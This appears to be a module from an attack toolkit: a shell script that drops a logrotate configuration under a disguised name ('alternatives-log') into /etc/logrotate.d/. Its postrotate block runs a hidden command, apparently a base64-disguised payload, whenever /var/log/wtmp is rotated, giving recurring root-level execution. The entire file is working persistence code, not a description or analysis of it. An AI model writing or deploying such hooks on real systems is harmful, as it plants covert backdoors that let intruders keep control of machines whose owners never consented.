#!/bin/sh
# logrotate: a script of logrotate (logrotate(8), postrotate)
. "${0%/*}/lib.sh"
only "plain disguised base64 dropped" "logrotate refuses a file of another owner"
payload
put "/etc/logrotate.d/$(named up alternatives-log)" 644 "$head" \
	"/var/log/wtmp {" "	weekly" "	postrotate" "		$cmd" "	endscript" "}"
